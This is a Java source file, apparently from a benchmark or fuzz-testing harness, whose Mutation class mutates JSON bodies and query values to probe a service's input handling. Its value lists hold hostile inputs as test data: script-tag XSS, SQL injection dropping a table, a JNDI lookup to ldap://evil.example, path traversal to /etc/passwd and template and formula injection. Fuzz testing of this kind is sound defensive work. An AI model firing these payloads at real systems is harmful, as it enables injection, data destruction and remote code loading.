package io.fupan.bench;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.UUID;
import java.util.regex.Matcher;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;
import tools.jackson.databind.node.StringNode;

/** Makes something strange of something sensible, the same for the same seed. */
final class Mutation {

    private static final List<String> STRANGE = List.of(
            "null",
            "true",
            "[]",
            "{}",
            "\"\"",
            "\" \"",
            "0",
            "-1",
            "11",
            "0.7",
            "1e3",
            "1e999",
            "-0",
            "9007199254740993",
            "9223372036854775808",
            "99999999999999999999999999999999999999",
            "1".repeat(1_001),
            "\"\\u0000\"",
            "\"\\ud800\"",
            "\"\\u202e\\u2066\"",
            "\"\\r\\n2026-01-01 ERROR forged\"",
            "\"<script>alert(1)</script>\"",
            "\"' or 1=1; drop table events; --\"",
            "\"${jndi:ldap://evil.example}\"",
            "\"../../etc/passwd\"",
            "\"javascript:alert(1)\"",
            "\"https://[\"",
            "\"+999999999-12-31T23:59:59Z\"",
            "\"-999999999-01-01\"",
            "\"2026-02-30\"",
            "\"2026-B7\"",
            "\"9e99999999\"",
            "\"NaN\"",
            "\"" + "x".repeat(12_000) + "\"",
            "\"" + "中".repeat(10_000) + "\"",
            "[".repeat(600) + "]".repeat(600),
            "{\"a\":".repeat(300) + "1" + "}".repeat(300));

    private static final List<String> NAMES = List.of(
            "act", "by", "meeting", "__proto__", "constructor", "", "tenths", "keyResult", "team", "x".repeat(300));

    /** What may be said where words, moments and days stand, at the far ends of it. */
    private static final List<String> WORDS = List.of(
            "x",
            "\t.\n",
            "<script>alert(1)</script>",
            "${7*7}",
            "'; drop table events; --",
            "=1+1",
            "\u202e\u2066",
            "中".repeat(10_000));

    private static final List<String> MOMENTS = List.of(
            "0001-01-01T00:00:00Z", "1969-12-31T23:59:59.999999999Z", "2099-12-31T00:00:00Z", "9999-12-31T23:59:59Z");
    private static final List<String> DAYS = List.of("0001-01-01", "2028-02-29", "9999-12-31");

    private final Random chance;

    Mutation(Random chance) {
        this.chance = chance;
    }

    /** One of them. */
    <T> T one(List<T> of) {
        return of.get(chance.nextInt(of.size()));
    }

    boolean once(int in) {
        return chance.nextInt(in) == 0;
    }

    /** Text that still resembles JSON, or hardly. */
    String of(JsonNode example) {
        JsonNode changed = example.deepCopy();
        int changes = 1 + chance.nextInt(3);
        for (int i = 0; i < changes; i++) change(changed);
        String text = changed.toString();
        for (int i = 0; i < 3; i++) text = text.replaceFirst("\"@strange\"", quoted(one(STRANGE)));
        return once(4) ? garbled(text) : text;
    }

    /** A body of the same form, which may well be taken: other words, moments and days, now and then another id. */
    String mild(JsonNode example) {
        return milder(example.deepCopy()).toString();
    }

    private JsonNode milder(JsonNode node) {
        if (node instanceof ObjectNode object)
            for (String name : List.copyOf(object.propertyNames())) object.set(name, milder(object.get(name)));
        if (node instanceof ArrayNode array) for (int i = 0; i < array.size(); i++) array.set(i, milder(array.get(i)));
        return node.isString() && once(2) ? StringNode.valueOf(milder(node.asString())) : node;
    }

    private String milder(String text) {
        if (text.matches("\\d{4}-\\d\\d-\\d\\dT.*")) return one(MOMENTS);
        if (text.matches("\\d{4}-\\d\\d-\\d\\d")) return one(DAYS);
        if (text.matches("[0-9a-f-]{36}")) return once(6) ? UUID.randomUUID().toString() : text;
        return text.contains(" ") ? one(WORDS) : text;
    }

    private static String quoted(String replacement) {
        return Matcher.quoteReplacement(replacement);
    }

    private void change(JsonNode node) {
        List<JsonNode> inner = new ArrayList<>();
        collect(node, inner);
        switch (one(inner)) {
            case ObjectNode object when !object.isEmpty() && !once(6) -> changeField(object);
            case ObjectNode object -> object.put(one(NAMES), "@strange");
            case ArrayNode array
            when !array.isEmpty() && once(2) -> array.set(chance.nextInt(array.size()), "@strange");
            case ArrayNode array -> array.add(once(2) || array.isEmpty() ? array.textNode("@strange") : array.get(0));
            default -> throw new IllegalStateException("only objects and arrays hold something");
        }
    }

    private void changeField(ObjectNode object) {
        String name = one(List.copyOf(object.propertyNames()));
        switch (chance.nextInt(6)) {
            case 0 -> object.remove(name);
            case 1 -> object.set(one(NAMES), object.get(name));
            case 2 -> object.put(name, UUID.randomUUID().toString());
            case 3 -> object.set(name, object.arrayNode().add(object.get(name)));
            default -> object.put(name, "@strange");
        }
    }

    private static void collect(JsonNode node, List<JsonNode> inner) {
        if (node.isContainer()) inner.add(node);
        node.forEach(child -> collect(child, inner));
    }

    /** Some of its characters gone, doubled, or others. */
    String garbled(String text) {
        StringBuilder changed = new StringBuilder(text);
        int changes = 1 + chance.nextInt(8);
        for (int i = 0; i < changes && !changed.isEmpty(); i++) {
            int at = chance.nextInt(changed.length());
            switch (chance.nextInt(4)) {
                case 0 -> changed.deleteCharAt(at);
                case 1 -> changed.insert(at, changed.charAt(at));
                case 2 -> changed.setCharAt(at, (char) (1 + chance.nextInt(0xD7FE)));
                default -> changed.setLength(at);
            }
        }
        return changed.toString();
    }

    /** Bytes that need not be UTF-8 any more. */
    byte[] bytes(String text) {
        byte[] bytes = text.getBytes(UTF_8);
        if (!once(3) || bytes.length == 0) return bytes;
        int changes = 1 + chance.nextInt(8);
        for (int i = 0; i < changes; i++) bytes[chance.nextInt(bytes.length)] = (byte) chance.nextInt(256);
        return once(4) ? Arrays.copyOf(bytes, chance.nextInt(bytes.length)) : bytes;
    }

    /** For the query of an address or a header's value: printable, and percent-encoded where need be. */
    String value() {
        return switch (chance.nextInt(5)) {
            case 0 -> Long.toString(chance.nextLong());
            case 1 -> UUID.randomUUID().toString();
            case 2 ->
                one(List.of("now", "0", "-1", "1e9", "2026-11-02T06:00:00Z", "+1000000000-01-01T00:00:00Z", "NaN"));
            case 3 ->
                one(List.of(
                        "Asia/Shanghai",
                        "../etc",
                        "GMT+99",
                        "true",
                        "vote",
                        "%",
                        "_",
                        "'",
                        "\\",
                        "中文",
                        "a".repeat(3_000)));
            default -> garbled("2026-11-02T06:00:00Z");
        };
    }
}
